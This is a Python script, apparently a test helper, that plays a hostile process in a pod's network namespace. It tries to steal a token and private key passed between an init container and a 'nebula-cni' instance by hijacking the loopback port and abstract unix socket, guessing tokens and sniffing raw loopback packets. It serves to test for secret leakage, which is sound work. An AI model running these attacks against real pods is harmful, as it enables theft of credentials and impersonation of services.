#!/usr/bin/python3
"""A program in the pod's network namespace that wants what passes between init and instance. Prints what it got, as JSON.

On every way there was or is: the port on the loopback address, the name of the unix socket, and every packet on loopback.
"""
import json
import socket
import sys
import threading
import time

NAME = b"\0nebula-cni/init/2"
until = time.monotonic() + float(sys.argv[1])
got = set()


def http(request):
    with socket.create_connection(("127.0.0.1", 4242), timeout=0.5) as stream:
        stream.sendall(request)
        return stream.recv(65536)


def ask_for_token():
    if b"token-of" in http(b"GET /token HTTP/1.1\r\nHost: attacker\r\n\r\n"):
        got.add("token")


def give_certificate():
    body = json.dumps({"certificate": "x", "ca": "x"}).encode()
    # That it looks at it at all is enough: a real one would be written.
    head = b"POST / HTTP/1.1\r\nHost: attacker\r\nContent-Length: %d\r\n\r\n" % len(body)
    if http(head + body):
        got.add("certificate looked at")


def ask_for_key():
    stream = socket.socket(socket.AF_UNIX)
    stream.settimeout(0.5)
    stream.connect(NAME)
    stream.sendall(b'{"token":"guessed"}\n')
    answer = stream.recv(1 << 20)
    if b"PRIVATE KEY" in answer:
        got.add("key")


def take_name():
    listener = socket.socket(socket.AF_UNIX)
    listener.bind(NAME)
    listener.listen()
    got.add("name taken")
    listener.settimeout(0.5)
    while time.monotonic() < until:
        try:
            stream, _ = listener.accept()
        except TimeoutError:
            continue
        stream.settimeout(0.5)
        if b"token-of" in stream.recv(65536):
            got.add("token")
        stream.close()


def take_port():
    listener = socket.socket()
    listener.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    listener.bind(("127.0.0.1", 4242))
    listener.listen()
    listener.settimeout(0.3)
    stream, _ = listener.accept()
    stream.settimeout(1)
    request = stream.recv(65536)
    if b"attacker" in request:
        return
    if request.startswith(b"GET /token"):
        stream.sendall(b"HTTP/1.1 200 OK\r\nContent-Length: 5\r\n\r\nshown")
        got.add("asked for a token")
    if b"certificate" in request:
        got.add("key" if b"PRIVATE KEY" in request else "certificate")


def overhear():
    link = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))
    link.bind(("lo", 0))
    link.settimeout(0.5)
    while time.monotonic() < until:
        try:
            frame = link.recv(65536)
        except TimeoutError:
            continue
        for secret in (b"token-of", b"PRIVATE KEY"):
            if secret in frame:
                got.add("overheard " + secret.decode())


def again_and_again(attempt):
    while time.monotonic() < until:
        try:
            attempt()
        except OSError:
            time.sleep(0.02)


attempts = [ask_for_token, give_certificate, ask_for_key, take_name, take_port, overhear]
threads = [threading.Thread(target=again_and_again, args=(attempt,)) for attempt in attempts]
for thread in threads:
    thread.start()
for thread in threads:
    thread.join()
print(json.dumps(sorted(got)))
